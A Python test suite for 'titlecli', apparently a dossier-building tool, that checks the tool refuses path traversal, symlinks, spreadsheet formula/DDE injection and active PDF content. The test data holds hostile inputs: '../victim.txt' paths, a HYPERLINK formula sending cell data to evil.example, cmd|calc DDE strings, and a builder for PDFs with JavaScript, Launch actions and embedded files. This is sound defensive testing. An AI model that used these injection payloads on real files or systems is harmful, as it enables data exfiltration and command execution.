"""The security promises of the README (section 安全承诺 / security promises), one class each:
what titlecli never deletes, never follows, never runs and never stores.

Every test plants what a careless clerk or a hostile file would bring and asserts what a user
would notice: the victim file still there, the folder refused with a message, the output free
of the payload.
"""

from __future__ import annotations

import json
import os
from datetime import date
from pathlib import Path

import pytest
import yaml
from test_batch import S, attachments, report, write_xlsx

from titlecli.errors import UserError

ROOT = Path(__file__).resolve().parent.parent
AS_OF = date(2022, 8, 1)


def _batch(roster, out, att=None, **kw):
    from titlecli.batch import Options, run

    return run(roster, Options(outdir=out, attachments=att, jobs=1, as_of=AS_OF, **kw))


# --------------------------------------------------------------------------- never deleted


@pytest.mark.parametrize("planted", ["../victim.txt", "ABS", "victim_1404xxxxxxxxxx3219.pdf"])
def test_a_crafted_resume_record_deletes_nothing_titlecli_did_not_write(tmp_path, planted):
    """The resume record names each applicant's earlier dossier; a record naming `../victim.txt`,
    an absolute path or a look-alike file in OUTDIR that titlecli never wrote must not make the
    rerun delete it."""
    roster = write_xlsx(tmp_path / "r.xlsx", S.ROWS[2:3])
    out = tmp_path / "out"
    _batch(roster, out)
    victim = tmp_path / "victim.txt" if planted != "victim_1404xxxxxxxxxx3219.pdf" else out / planted
    victim.write_text("the user's own file", "utf-8")
    name = str(victim) if planted == "ABS" else planted
    state = json.loads((out / ".titlecli-batch.json").read_text("utf-8"))
    for entry in state["applicants"].values():
        entry["result"]["file"] = name
        entry["inputs"] = "changed"  # so the applicant is rebuilt and its "old dossier" removed
    (out / ".titlecli-batch.json").write_text(json.dumps(state), "utf-8")
    _batch(roster, out)
    assert victim.read_text("utf-8") == "the user's own file"
    assert [r["status"] for r in report(out)["applicants"]] == ["built"]


def test_a_renamed_applicant_s_own_earlier_dossier_is_still_removed(tmp_path):
    """What titlecli wrote is still titlecli's to tidy: a name corrected in the roster leaves no
    dossier under the old name behind."""
    out = tmp_path / "out"
    _batch(write_xlsx(tmp_path / "r.xlsx", S.ROWS[2:3]), out)
    old = {p.name for p in out.glob("*_*.pdf")}  # the dossier (not the unit's 公示情况一览表.pdf)
    assert len(old) == 1
    _batch(write_xlsx(tmp_path / "r.xlsx", [dict(S.ROWS[2], 姓名="赵磊磊")]), out)
    assert {p.name for p in out.glob("*_*.pdf")} == {"赵磊磊_" + next(iter(old)).split("_", 1)[1]}
    # and the 推荐报告 draft titlecli wrote under the old name (nobody edited it) went with it
    assert [p.name for p in out.glob("*_推荐报告.docx")] == ["赵磊磊_" + next(iter(old)).split("_", 1)[1][:-4] + "_推荐报告.docx"]


def test_batch_into_a_folder_of_the_user_s_files_keeps_every_one_of_them(tmp_path, cli):
    """An existing OUTDIR keeps the user's temp-looking files; a report.json or 汇总表.xlsx that
    titlecli did not write stops the batch before anything is written."""
    out = tmp_path / "mine"
    out.mkdir()
    (out / ".notes.tmp").write_text("draft", "utf-8")
    (out / ".~lock.x.tmp").write_text("lock", "utf-8")
    roster = write_xlsx(tmp_path / "r.xlsx", S.ROWS[2:3])
    code, _, _ = cli("batch", roster, "-o", out, "-j", "1", "--as-of", "2022-08-01")
    assert code == 0
    assert (out / ".notes.tmp").read_text("utf-8") == "draft" and (out / ".~lock.x.tmp").exists()
    for name in ("report.json", "汇总表.xlsx"):
        other = tmp_path / f"other-{name}"
        other.mkdir()
        (other / name).write_bytes(b"the user's own " + name.encode())
        code, _, err = cli("batch", roster, "-o", other, "-j", "1", "--as-of", "2022-08-01")
        assert code == 2 and name in err and "移走" in err
        assert (other / name).read_bytes() == b"the user's own " + name.encode()
        assert [p.name for p in other.iterdir()] == [name]


def test_a_summary_edited_since_the_last_run_is_not_replaced(tmp_path, cli):
    roster = write_xlsx(tmp_path / "r.xlsx", S.ROWS[2:3])
    out = tmp_path / "out"
    args = ("batch", roster, "-o", out, "-j", "1", "--as-of", "2022-08-01")
    assert cli(*args)[0] == 0
    assert cli(*args)[0] == 0  # its own summary is replaced freely
    (out / "汇总表.xlsx").write_bytes((out / "汇总表.xlsx").read_bytes() + b"\0")  # saved by the clerk
    code, _, err = cli(*args)
    assert code == 2 and "汇总表.xlsx" in err


def test_a_file_of_the_dossier_s_name_that_titlecli_did_not_write_is_not_overwritten(tmp_path):
    roster = write_xlsx(tmp_path / "r.xlsx", S.ROWS[2:3])
    out = tmp_path / "out"
    res = _batch(roster, out)
    name = res.rows[0].file
    (out / name).write_bytes(b"%PDF-1.4 the clerk's own scan")
    for f in (".titlecli-batch.json", "report.json", "汇总表.xlsx"):
        (out / f).unlink()
    res = _batch(roster, out)
    assert (out / name).read_bytes() == b"%PDF-1.4 the clerk's own scan"
    assert res.rows[0].status == "failed" and "移走" in res.rows[0].problems[-1]


def test_check_and_test_never_write_over_their_own_input(tmp_path, cli):
    prof = tmp_path / "p.yaml"
    prof.write_bytes((ROOT / "examples" / "changzhi-engineer.yaml").read_bytes())
    before = prof.read_bytes()
    code, _, err = cli("check", prof, "--format", "json", "-o", prof, "--as-of", "2022-08-01")
    assert code == 2 and prof.read_bytes() == before and "-o" in err
    case = tmp_path / "c.yaml"
    case.write_text(
        "region: shanxi-changzhi-2022\ncases:\n  - name: x\n    profile: p.yaml\n    as_of: 2022-08-01\n"
        "    expect:\n      intermediate: {eligible: true}\n",
        "utf-8",
    )
    before_case = case.read_bytes()
    code, _, err = cli("test", case, "--format", "junit", "-o", case)
    assert code == 2 and case.read_bytes() == before_case
    code, _, err = cli("test", case, "--format", "junit", "-o", prof)
    assert code == 2 and prof.read_bytes() == before


# --------------------------------------------------------------------------- never leaked


@pytest.mark.parametrize("where", ["attachments", "folder-roster"])
def test_an_output_folder_inside_the_inputs_is_refused(tmp_path, cli, where):
    """Dossiers written into the attachments (or the folder of profiles) would be bound into
    another applicant's dossier, with full ID numbers, on the next run."""
    if where == "attachments":
        roster = write_xlsx(tmp_path / "r.xlsx", S.ROWS)
        att = attachments(tmp_path / "att")
        out = att / "张伟" / "out"
        code, _, err = cli("batch", roster, "-a", att, "-o", out, "-j", "1", "--as-of", "2022-08-01")
    else:
        roster = tmp_path / "profiles"
        roster.mkdir()
        (roster / "p.yaml").write_bytes((ROOT / "examples" / "changzhi-engineer.yaml").read_bytes())
        out = roster
        code, _, err = cli("batch", roster, "-o", out, "-j", "1", "--as-of", "2022-08-01")
    assert code == 2 and "之内" in err and "Traceback" not in err
    assert not (out / "report.json").exists()


# --------------------------------------------------------------------------- never run


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&D2,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd| calc!A0"]


def test_every_cell_of_the_summary_holds_text_never_a_formula(tmp_path):
    """A name, unit or folder written as a formula or DDE call is shown as typed in 汇总表.xlsx."""
    import zipfile

    from openpyxl import load_workbook

    rows = [dict(S.ROWS[2], 姓名=FORMULAS[0], 单位=FORMULAS[1]), dict(S.ROWS[3], 单位=FORMULAS[2])]
    roster = write_xlsx(tmp_path / "r.xlsx", rows)
    wb = load_workbook(roster)
    for row in wb.active.iter_rows():
        for c in row:
            c.data_type = "s" if c.data_type == "f" else c.data_type  # the clerk typed text
    wb.save(roster)
    att = attachments(tmp_path / "att", {FORMULAS[3]: ["身份证.jpg"]})
    out = tmp_path / "out"
    res = _batch(roster, out, att)
    assert [r.name for r in res.rows] == [FORMULAS[0], S.ROWS[3]["姓名"]]
    with zipfile.ZipFile(out / "汇总表.xlsx") as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)
    wb = load_workbook(out / "汇总表.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    typed = {c.value: c for c in cells if c.value in FORMULAS}
    assert set(typed) == set(FORMULAS)
    assert all(c.data_type == "s" and c.quotePrefix for c in typed.values())


def test_the_roster_template_holds_its_choices_as_text(tmp_path, monkeypatch, cli):
    """The template's drop-down lists name the regions found, user region files included."""
    import zipfile

    monkeypatch.setattr("titlecli.roster.template._choice_labels", lambda c: ["=1+1", "+cmd|' /C calc'!A0"])
    assert cli("batch", "--template", tmp_path / "t.xlsx")[0] == 0
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


# --------------------------------------------------------------------------- never followed


def test_links_in_the_attachments_folder_are_never_followed_and_are_named(tmp_path, cli):
    """A link to another person's scan is not bound into this applicant's dossier, a folder
    linked to /usr is not walked, and both are said."""
    from pypdf import PdfReader

    other = tmp_path / "elsewhere"
    other.mkdir()
    (other / "李四身份证.jpg").write_bytes(S.scan_jpeg("someone else's ID card"))
    att = attachments(tmp_path / "att", {"张伟": ["身份证.jpg"]})
    (att / "张伟" / "学位证.jpg").symlink_to(other / "李四身份证.jpg")
    (att / "张伟" / "系统").symlink_to("/usr")
    (att / "140402199501010028").symlink_to(other)  # 王芳's whole folder is a link
    out = tmp_path / "out"
    roster = write_xlsx(tmp_path / "r.xlsx", S.ROWS)
    code, stdout, _ = cli("batch", roster, "-a", att, "-o", out, "-j", "1", "--as-of", "2022-08-01")
    rep = {a["name"]: a for a in report(out)["applicants"]}
    zw = rep["张伟"]
    assert [a["file"] for a in zw["attachments"]] == ["张伟/身份证.jpg"]
    assert any("张伟/学位证.jpg" in n and "符号链接" in n for n in zw["notes"])
    assert any("张伟/系统" in n and "符号链接" in n for n in zw["notes"])
    assert rep["王芳"]["attachments"] == []
    assert any("1404**********0028" in w and "符号链接" in w for w in report(out)["warnings"])
    assert "符号链接" in stdout
    text = "".join(p.extract_text() or "" for p in PdfReader(out / zw["file"]).pages)
    assert "学位证复印件（缺）" in text  # the linked "degree certificate" was not bound


# --------------------------------------------------------------------------- sanitised PDFs

# What a hostile PDF carries, each part under a payload a test can look for in the output.
PAYLOADS = {
    "open-action": b"OPENACTION-PAYLOAD",
    "names-js": b"NAMESJS-PAYLOAD",
    "page-aa": b"PAGEAA-PAYLOAD",
    "launch": b"LAUNCH-PAYLOAD.exe",
    "uri": b"https://URI-PAYLOAD.example",
    "widget-aa": b"WIDGETAA-PAYLOAD",
    "embedded": b"EMBEDDED-PAYLOAD",
    "xfa": b"XFA-PAYLOAD",
    "resources-js": b"RESOURCESJS-PAYLOAD",
    "resources-file": b"RESOURCESFILE-PAYLOAD",
    "orphan-file": b"ORPHANFILE-PAYLOAD",
    "form-xobject-js": b"FORMJS-PAYLOAD",
}
VISIBLE = "HOSTILE-SCAN-TEXT"


def hostile_pdf(path: Path) -> Path:
    """A one-page PDF whose page shows VISIBLE and that carries every kind of active content
    and embedded file titlecli removes, in the places viewers look and in those they do not."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )
    from reportlab.pdfgen.canvas import Canvas

    c = Canvas(str(path), pagesize=(595, 842), invariant=1)
    c.drawString(72, 700, VISIBLE)
    c.showPage()
    c.save()
    w = PdfWriter(clone_from=PdfReader(path))
    N = NameObject

    def js(payload: bytes):
        return DictionaryObject({N("/Type"): N("/Action"), N("/S"): N("/JavaScript"), N("/JS"): TextStringObject(payload.decode())})

    def stream(data: bytes, **keys):
        s = DecodedStreamObject()
        s.set_data(data)
        for k, v in keys.items():
            s[N("/" + k)] = v
        return w._add_object(s)

    page = w.pages[0]
    w._root_object[N("/OpenAction")] = w._add_object(js(PAYLOADS["open-action"]))
    w.add_attachment("payload.exe", PAYLOADS["embedded"])
    names = w._root_object["/Names"].get_object()
    names[N("/JavaScript")] = DictionaryObject(
        {N("/Names"): ArrayObject([TextStringObject("init"), w._add_object(js(PAYLOADS["names-js"]))])}
    )
    page[N("/AA")] = DictionaryObject({N("/O"): js(PAYLOADS["page-aa"])})
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)])
    launch = DictionaryObject({N("/S"): N("/Launch"), N("/F"): TextStringObject(PAYLOADS["launch"].decode())})
    uri = DictionaryObject({N("/S"): N("/URI"), N("/URI"): TextStringObject(PAYLOADS["uri"].decode())})
    annots = [
        DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N("/Link"), N("/Rect"): rect, N("/A"): launch}),
        DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N("/Link"), N("/Rect"): rect, N("/A"): uri}),
        DictionaryObject(
            {
                N("/Type"): N("/Annot"),
                N("/Subtype"): N("/Widget"),
                N("/FT"): N("/Btn"),
                N("/T"): TextStringObject("f"),
                N("/Rect"): rect,
                N("/AA"): DictionaryObject({N("/E"): js(PAYLOADS["widget-aa"])}),
            }
        ),
    ]
    page[N("/Annots")] = ArrayObject([w._add_object(a) for a in annots])
    w._root_object[N("/AcroForm")] = DictionaryObject(
        {N("/Fields"): ArrayObject([page["/Annots"][2]]), N("/XFA"): stream(b"<xdp>" + PAYLOADS["xfa"] + b"</xdp>")}
    )
    res = page["/Resources"].get_object()
    res[N("/Hidden")] = js(PAYLOADS["resources-js"])
    res[N("/Stash")] = stream(PAYLOADS["resources-file"], Type=N("/EmbeddedFile"))
    form = DecodedStreamObject()
    form.set_data(b"")
    form.update(
        {
            N("/Type"): N("/XObject"),
            N("/Subtype"): N("/Form"),
            N("/BBox"): rect,
            N("/Resources"): DictionaryObject({N("/X"): js(PAYLOADS["form-xobject-js"])}),
        }
    )
    xo = res.get("/XObject")
    xo = xo.get_object() if xo is not None else DictionaryObject()
    xo[N("/Unused")] = w._add_object(form)
    res[N("/XObject")] = xo
    stream(PAYLOADS["orphan-file"], Type=N("/EmbeddedFile"))  # referenced from nowhere
    w.write(path)
    raw = _expanded(path)
    assert all(p in raw for p in PAYLOADS.values())
    return path


def _expanded(path: Path) -> bytes:
    """The PDF's bytes, then the same with every stream decompressed and no object streams
    (qpdf --qdf, which leaves out objects nothing refers to: those are in the raw bytes), so a
    payload anywhere in it shows."""
    import subprocess

    out = path.with_name(path.name + ".qdf")
    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(path), str(out)], check=False, capture_output=True)
    data = out.read_bytes()
    out.unlink()
    return path.read_bytes() + data


def _carried(path: Path) -> list[str]:
    raw = _expanded(path)
    return [k for k, p in PAYLOADS.items() if p in raw]


def test_the_dossier_carries_no_script_action_or_embedded_file_of_an_attachment(tmp_path):
    from test_dossier import build, texts

    s = tmp_path / "scans"
    s.mkdir()
    hostile_pdf(s / "paper.pdf")
    res = build(tmp_path, [{"kind": "paper", "file": "scans/paper.pdf"}])
    assert _carried(res.path) == []
    assert any(VISIBLE in p for p in texts(res.path))
    assert any("scans/paper.pdf" in w and "JavaScript" in w for w in res.warnings)


def _sichuan_upload(tmp_path, docs):
    from test_upload import _build_sichuan

    return {f.item: f for f in _build_sichuan(tmp_path, docs).files}


def test_an_uploaded_pdf_is_sanitised_not_copied_byte_for_byte(tmp_path):
    hostile_pdf(tmp_path / "award.pdf")
    before = (tmp_path / "award.pdf").read_bytes()
    f = _sichuan_upload(tmp_path, [{"kind": "award", "file": "award.pdf"}])["achievements"]
    out = tmp_path / "upload" / f.file
    assert f.ok and _carried(out) == []
    assert "JavaScript" in f.action and "嵌入的文件" in f.action
    from pypdf import PdfReader

    assert VISIBLE in PdfReader(out).pages[0].extract_text()
    assert (tmp_path / "award.pdf").read_bytes() == before  # the original is never touched


def test_merged_upload_pdfs_are_sanitised_too(tmp_path):
    hostile_pdf(tmp_path / "award.pdf")
    hostile_pdf(tmp_path / "paper.pdf")
    f = _sichuan_upload(tmp_path, [{"kind": "award", "file": "award.pdf"}, {"kind": "paper", "file": "paper.pdf"}])["achievements"]
    assert f.ok and _carried(tmp_path / "upload" / f.file) == []


def test_a_clean_pdf_is_still_uploaded_byte_for_byte(tmp_path):
    from test_dossier import pdf

    pdf(tmp_path / "award.pdf", 1)
    f = _sichuan_upload(tmp_path, [{"kind": "award", "file": "award.pdf"}])["achievements"]
    assert (tmp_path / "upload" / f.file).read_bytes() == (tmp_path / "award.pdf").read_bytes()
    assert f.action == "原样复制"


def test_a_pdf_locked_by_a_password_is_not_uploaded_unchecked(tmp_path):
    from pypdf import PdfReader, PdfWriter
    from test_dossier import pdf

    w = PdfWriter(clone_from=PdfReader(pdf(tmp_path / "award.pdf", 1)))
    w.encrypt("secret", algorithm="RC4-128")
    w.write(tmp_path / "award.pdf")
    from test_upload import _build_sichuan

    with pytest.raises(UserError) as e:
        _build_sichuan(tmp_path, [{"kind": "award", "file": "award.pdf"}])
    assert "award.pdf" in str(e.value) and "加密" in str(e.value)
    assert not (tmp_path / "upload").exists()


# --------------------------------------------------------------------------- data loss


def test_a_scan_replaced_under_the_same_name_rebuilds_a_folder_roster_dossier(tmp_path):
    """A folder of profiles lists its scans itself: a scan changed in place is a changed input."""
    from test_dossier import jpeg

    folder = tmp_path / "profiles"
    (folder / "scans").mkdir(parents=True)
    jpeg(folder / "scans" / "id.jpg", color=(250, 250, 250))
    data = yaml.safe_load((ROOT / "examples" / "changzhi-engineer.yaml").read_text("utf-8"))
    data["documents"] = [{"kind": "id_card", "file": "scans/id.jpg"}]
    (folder / "zhang.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    out = tmp_path / "out"
    first = _batch(folder, out)
    before = (out / first.rows[0].file).read_bytes()
    assert _batch(folder, out).rows[0].status == "unchanged"
    jpeg(folder / "scans" / "id.jpg", color=(20, 20, 20))  # rescanned, same name
    again = _batch(folder, out)
    assert again.rows[0].status == "built" and (out / again.rows[0].file).read_bytes() != before


def test_a_hidden_sheet_of_old_data_is_not_read_instead_of_the_visible_roster(tmp_path):
    from openpyxl import Workbook

    from titlecli.roster import read_roster

    wb = Workbook()
    old = wb.active
    old.title = "2021"
    old.append(S.HEADERS)
    old.append([dict(S.ROWS[2], 姓名="旧人").get(h) for h in S.HEADERS])
    old.sheet_state = "hidden"
    new = wb.create_sheet("2022")
    new.append(S.HEADERS)
    new.append([S.ROWS[2].get(h) for h in S.HEADERS])
    wb.save(tmp_path / "r.xlsx")
    roster = read_roster(tmp_path / "r.xlsx")
    assert [a.name for a in roster.applicants] == [S.ROWS[2]["姓名"]]
    assert any("隐藏" in w and "2021" in w for w in roster.warnings)


def _upload_once(tmp_path):
    from test_dossier import pdf
    from test_upload import _build_sichuan

    pdf(tmp_path / "award.pdf", 1)
    return _build_sichuan(tmp_path, [{"kind": "award", "file": "award.pdf"}])


def test_an_upload_folder_whose_files_were_edited_is_not_replaced(tmp_path):
    res = _upload_once(tmp_path)
    up = tmp_path / "upload"
    name = next(f.file for f in res.files if f.file)
    _upload_once(tmp_path)  # untouched: replaced freely
    (up / name).write_bytes((up / name).read_bytes() + b"% the clerk's change\n")
    with pytest.raises(UserError) as e:
        _upload_once(tmp_path)
    assert name in str(e.value) and "修改" in str(e.value)
    assert (up / name).read_bytes().endswith(b"% the clerk's change\n")


def test_a_planted_or_copied_manifest_does_not_make_a_folder_titlecli_s(tmp_path):
    """A manifest.json naming the user's files (as an older titlecli wrote it, without hashes,
    or with hashes that do not match) is not enough to replace the folder."""
    import json as _json

    up = tmp_path / "upload"
    up.mkdir()
    (up / "01_mine.pdf").write_bytes(b"%PDF-1.4 the user's own")
    for files in (
        [{"file": "01_mine.pdf", "bytes": 23}],
        [{"file": "01_mine.pdf", "bytes": 23, "sha256": "0" * 64}],
    ):
        (up / "manifest.json").write_text(_json.dumps({"system": "x", "files": files}), "utf-8")
        with pytest.raises(UserError):
            _upload_once(tmp_path)
        assert (up / "01_mine.pdf").read_bytes() == b"%PDF-1.4 the user's own"


def test_temp_files_of_a_killed_write_are_removed_the_next_time_and_nothing_else(tmp_path):
    from titlecli.atomic import write_bytes

    out = tmp_path / "out.pdf"
    dead = tmp_path / ".out.pdf.999999999.abcd_123.tmp"  # a writer that no longer runs
    live = tmp_path / f".out.pdf.{os.getpid()}.zzzz_999.tmp"  # one being written right now
    mine = tmp_path / ".out.pdf.notes.tmp"  # the user's
    other = tmp_path / ".other.pdf.999999999.abcd_123.tmp"  # another output's
    for p in (dead, live, mine, other):
        p.write_bytes(b"x")
    write_bytes(out, b"%PDF")
    assert not dead.exists() and live.exists() and mine.exists() and other.exists()


def test_sigterm_is_handled_like_ctrl_c_and_leaves_no_temp_file(tmp_path):
    import subprocess
    import sys

    script = f"""
import os, signal
from pathlib import Path
from titlecli.cli import _stop_on_sigterm, Terminated
from titlecli.atomic import replacing
_stop_on_sigterm()
try:
    with replacing(Path({str(tmp_path / "out.pdf")!r})) as f:
        f.write(b"half")
        os.kill(os.getpid(), signal.SIGTERM)
except Terminated:
    print("stopped")
"""
    r = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False)
    assert r.stdout.strip() == "stopped", r.stderr
    assert list(tmp_path.iterdir()) == []
